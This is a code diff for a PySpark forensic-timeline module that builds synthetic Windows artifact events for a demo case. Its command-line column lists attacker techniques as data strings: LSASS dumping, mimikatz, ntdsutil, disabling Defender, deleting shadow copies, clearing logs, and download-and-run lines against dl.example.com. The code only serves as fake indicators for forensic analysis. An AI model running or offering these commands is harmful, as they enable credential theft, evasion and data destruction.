@@ -5,6 +5,9 @@ from __future__ import annotations
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
+from timeloom.plans.read_models import ATTRIBUTES, PLAIN, compact_rows
+from timeloom.sources.storage import derived
+
 _BASE = """
 SELECT event_id AS n, ts, user_id AS u, event_type, value, {k} AS k FROM {events}
 """
@@ -13,18 +16,26 @@ SELECT *,
   CASE k % 10 WHEN 0 THEN concat('evil', k {div} 10, '.exe') WHEN 1 THEN concat('setup', k {div} 10, '.msi') WHEN 2 THEN concat('report', k {div} 10, '.docx')
     WHEN 3 THEN 'svchost.exe' WHEN 4 THEN concat('run', k {div} 10, '.ps1') WHEN 5 THEN concat('notes', k {div} 10, '.txt') WHEN 6 THEN concat('tool', k {div} 10, '.dll')
     WHEN 7 THEN 'desktop.ini' WHEN 8 THEN concat('payload', k {div} 10, '.js') ELSE concat('update', k {div} 10, '.bat') END AS base,
-  CASE event_type WHEN 'error' THEN 'evtx' WHEN 'click' THEN 'browser' WHEN 'view' THEN 'mft' WHEN 'purchase' THEN 'prefetch' ELSE 'usn_jrnl' END AS artifact_type,
+  CASE event_type WHEN 'error' THEN CASE WHEN k % 4 = 3 AND u % 8 = 4 THEN 'defender' WHEN k % 4 = 3 AND u % 8 = 7 THEN 'scheduled_task' ELSE 'evtx' END WHEN 'click' THEN 'browser'
+    WHEN 'view' THEN CASE WHEN u = 14 THEN 'registry_hive' WHEN u = 13 THEN 'lnk' WHEN u = 12 THEN 'ese_database' WHEN u = 11 THEN 'recovery' ELSE 'mft' END WHEN 'purchase' THEN 'prefetch' ELSE 'usn_jrnl' END AS artifact_type,
   CASE WHEN event_type <> 'error' THEN NULL WHEN k % 4 = 0 THEN '4688' WHEN k % 4 = 1 THEN CASE WHEN u % 3 = 0 THEN '4624' ELSE '4625' END WHEN k % 4 = 2 THEN '3'
-    ELSE CASE u % 4 WHEN 0 THEN '7045' WHEN 1 THEN '1102' WHEN 2 THEN '4720' ELSE '4769' END END AS event_code,
-  CASE (k {div} 4) % 6 WHEN 0 THEN 'powershell -enc SQBFAFgA' WHEN 1 THEN 'certutil -urlcache -split -f http://dl.example.com/a' WHEN 2 THEN 'cmd /c whoami'
-    WHEN 3 THEN 'wevtutil cl Security' WHEN 4 THEN 'schtasks /create /tn upd' ELSE 'notepad readme.txt' END AS cmd
+    ELSE CASE u % 8 WHEN 0 THEN '7045' WHEN 1 THEN '1102' WHEN 2 THEN '4720' WHEN 3 THEN '4769' WHEN 4 THEN CASE WHEN k % 8 = 3 THEN '1116' ELSE '5001' END WHEN 5 THEN '4732' WHEN 6 THEN '4768' ELSE '106' END END AS event_code,
+  CASE (k {div} 4) % 21 WHEN 0 THEN 'powershell -enc SQBFAFgA' WHEN 1 THEN 'certutil -urlcache -split -f http://dl.example.com/a' WHEN 2 THEN 'cmd /c whoami'
+    WHEN 3 THEN 'wevtutil cl Security' WHEN 4 THEN 'schtasks /create /tn upd' WHEN 5 THEN 'notepad readme.txt' WHEN 6 THEN 'rundll32 comsvcs.dll MiniDump 624 x.dmp full' WHEN 7 THEN 'ntdsutil ac i ntds'
+    WHEN 8 THEN 'PSEXESVC.exe' WHEN 9 THEN 'rundll32 javascript:x' WHEN 10 THEN 'Set-MpPreference -DisableRealtimeMonitoring 1' WHEN 11 THEN 'mimikatz sekurlsa' WHEN 12 THEN 'bitsadmin /transfer j http://dl.example.com/a'
+    WHEN 13 THEN 'vssadmin delete shadows /all' WHEN 14 THEN 'mshta http://dl.example.com/a.hta' WHEN 15 THEN 'regsvr32 /i:http://dl.example.com/a scrobj.dll' WHEN 16 THEN 'wmic process call create calc'
+    WHEN 17 THEN 'powershell (new-object net.webclient).DownloadString(1)' WHEN 18 THEN 'reg add HKCU/Software/Microsoft/Windows/CurrentVersion/Run /v a' WHEN 19 THEN 'Add-MpPreference -ExclusionPath c:/temp'
+    ELSE 'net localgroup administrators bob /add' END AS cmd
 FROM base0
 """
 _ACTION = """
 SELECT *,
   CASE artifact_type
     WHEN 'evtx' THEN CASE event_code WHEN '4688' THEN 'process_created' WHEN '4624' THEN 'logon_success' WHEN '4625' THEN 'logon_failure' WHEN '3' THEN 'network_connection'
-      WHEN '7045' THEN 'service_installed' WHEN '1102' THEN 'audit_log_cleared' WHEN '4720' THEN 'account_created' ELSE 'kerberos_tgs_request' END
+      WHEN '7045' THEN 'service_installed' WHEN '1102' THEN 'audit_log_cleared' WHEN '4720' THEN 'account_created' WHEN '4732' THEN 'group_member_added' WHEN '4768' THEN 'kerberos_tgt_request' ELSE 'kerberos_tgs_request' END
+    WHEN 'defender' THEN CASE event_code WHEN '1116' THEN 'defender_threat_detected' ELSE 'defender_protection_disabled' END WHEN 'scheduled_task' THEN 'scheduled_task_action_started'
+    WHEN 'registry_hive' THEN CASE WHEN k % 2 = 0 THEN 'registry_run_key' ELSE 'registry_userassist_execution' END WHEN 'lnk' THEN 'lnk_target_reference' WHEN 'ese_database' THEN 'ese_row_observed'
+    WHEN 'recovery' THEN CASE k % 4 WHEN 0 THEN 'recovered_file' WHEN 1 THEN 'credential_store_entry' WHEN 2 THEN 'pcap_conversation_reconstructed' ELSE 'sidecar_output' END
     WHEN 'browser' THEN 'browser_download' WHEN 'mft' THEN CASE WHEN u % 2 = 0 THEN 'mft_created' ELSE 'mft_filename_created' END WHEN 'prefetch' THEN 'prefetch_execution'
     ELSE CASE k % 4 WHEN 0 THEN 'usn_created' WHEN 1 THEN 'usn_deleted' WHEN 2 THEN 'usn_renamed' ELSE 'usn_modified' END END AS event_action
 FROM help0
@@ -49,8 +60,17 @@ SELECT concat('ev', lpad(cast(n AS {str}), 8, '0')) AS event_id, 'case_demo' AS
       CASE WHEN event_action = 'process_created' THEN concat(',"process_id":"', k, '","process_guid":"g', u, '-', k, '"',
         CASE WHEN k >= 4 THEN concat(',"parent_process_guid":"g', u, '-', k - 4, '","parent_process":"C:/Windows/explorer.exe"') ELSE '' END,
         ',"command_line":"', cmd, '"') ELSE '' END,
-      ',"data":{{"TargetUserName":"user', u, '","TicketEncryptionType":"', CASE WHEN u % 8 = 3 THEN '0x17' ELSE '0x12' END, '","ServiceName":"svc', u, '","CommandLine":"', cmd, '"}}}}')
-    WHEN 'prefetch' THEN concat('{{"run_count":', k, ',"referenced_file_count":', 2 * k, ',"prefetch_hash":"', md5(base), '"}}')
+      ',"data":{{"TargetUserName":"user', u, CASE event_code WHEN '4624' THEN concat('","LogonType":"', CASE k % 3 WHEN 0 THEN '3' WHEN 1 THEN '10' ELSE '2' END, '","AuthenticationPackageName":"', CASE WHEN u % 2 = 0 THEN 'NTLM' ELSE 'Kerberos' END)
+        WHEN '4732' THEN concat('","MemberName":"user', u - 3) WHEN '4768' THEN concat('","PreAuthType":"', CASE WHEN k % 8 = 3 THEN '0' ELSE '2' END) ELSE '' END, '","TicketEncryptionType":"', CASE WHEN u % 8 = 3 THEN '0x17' ELSE '0x12' END, '","ServiceName":"svc', u, '","CommandLine":"', cmd, '"}}}}')
+    WHEN 'prefetch' THEN concat('{{"sections":[{{"name":"A","offset":', 152 + k, ',"length":320}},{{"name":"B","offset":600,"length":', 24 + k, '}}],"volumes":["V', u, '"],"referenced_files":["F', k, '","G', u, '"],"run_count":', k, ',"referenced_file_count":', 2 * k, ',"prefetch_hash":"', md5(base), '"}}')
+    WHEN 'defender' THEN concat('{{"event_id":"', event_code, '","channel":"Microsoft-Windows-Windows Defender/Operational"}}')
+    WHEN 'scheduled_task' THEN '{{"event_id":"106","channel":"Microsoft-Windows-TaskScheduler/Operational"}}'
+    WHEN 'registry_hive' THEN concat('{{"key_path":"HKCU/Software/Run","value_name":"v', k, '","record_offset":', 512 * k, ',"record_size":', 64 + k, '}}')
+    WHEN 'mft' THEN concat('{{"record_offset":', 1024 * k, ',"record_size":1024,"attributes":[{{"type_name":"STANDARD_INFORMATION","offset":56,"length":96,"id":0}},{{"type_name":"FILE_NAME","offset":152,"length":', 104 + k, ',"id":1}}]}}')
+    WHEN 'lnk' THEN concat('{{"record_offset":0,"target_path":"C:/Users/t', k, '.exe","extra_data_blocks":[{{"signature":"TrackerDataBlock","offset":', 300 + k, ',"length":96}},{{"signature":"KnownFolderDataBlock","offset":500,"length":28}}],"properties":[{{"name":"Comment","value":"c', k, '"}}]}}')
+    WHEN 'ese_database' THEN concat('{{"table_hint":"UrlHistory","pages":[{{"page":', k, ',"offset":', 4096 * k, ',"tags":[{{"tag":0,"offset":40,"length":16}},{{"tag":1,"offset":56,"length":', 8 + k, '}}]}}]}}')
+    WHEN 'recovery' THEN concat('{{"record_offset":', 4096 * k, ',"record_size":', 100 + k, ',"recovered_name":"r', k, '.bin"}}')
+    WHEN 'usn_jrnl' THEN concat('{{"usn":"', 96 * k, '","record_offset":', 96 * k, ',"record_size":96}}')
     ELSE '{{}}' END AS attributes_json
 FROM act0
 """
@@ -64,15 +84,6 @@ def _chain(names: dict) -> str:
 
 EF = f"{_chain(_DUCK)}, ef AS ({_EF.format(**_DUCK)})"
 
-#: attributes of the compact rows: name -> key of the JSON object, string values of compact JSON only
-ATTRIBUTES = {
-    "event_code": "event_id", "channel": "channel", "command_line": "command_line", "process_id": "process_id", "process_guid": "process_guid",
-    "parent_process_guid": "parent_process_guid", "parent_process": "parent_process",
-}
-PLAIN = [
-    "event_id", "case_id", "event_time_utc", "artifact_type", "event_action", "severity", "host", "user_name", "process_name", "file_path", "ip", "url", "hash",
-    "message_short", "source_file_id", "parser_name", "evidence_ref",
-]
 ER = (
     "er AS (SELECT " + ", ".join(PLAIN) + ", " + ", ".join(f"nullif(regexp_extract(attributes_json, '\"{k}\":\"([^\"]*)\"', 1), '') AS {n}" for n, k in ATTRIBUTES.items())
     + ", lower(concat_ws(' ', event_id, event_time_utc, artifact_type, event_action, severity, host, user_name, process_name, file_path, ip, url, hash, message_short,"
@@ -87,15 +98,19 @@ WITH = {"ef": f"WITH {EF} ", "er": f"WITH {EF}, {ER} ", "files": f"WITH {FILES}
 
 
 def events_full(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """The full events, stored, as a lake table is."""
+    return derived(spark, f"{sf_dir}/events.parquet", "events-full", lambda: project(spark, sf_dir))
+
+
+def project(spark: SparkSession, sf_dir: str) -> DataFrame:
     events = spark.read.parquet(f"{sf_dir}/events.parquet")
     text = f"WITH {_chain(_SPARK)} {_EF.format(**_SPARK)}".replace("{", "{{").replace("}", "}}")
     return spark.sql(text.replace("{{events}}", "{events}"), events=events)
 
 
 def event_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
-    from timeloom.plans.read_models import compact_rows
-
-    return compact_rows(events_full(spark, sf_dir))
+    """The read model, stored: later filters and columns reach its scan."""
+    return derived(spark, f"{sf_dir}/events.parquet", "event-rows", lambda: compact_rows(events_full(spark, sf_dir)))
 
 
 def files(spark: SparkSession, sf_dir: str) -> DataFrame:
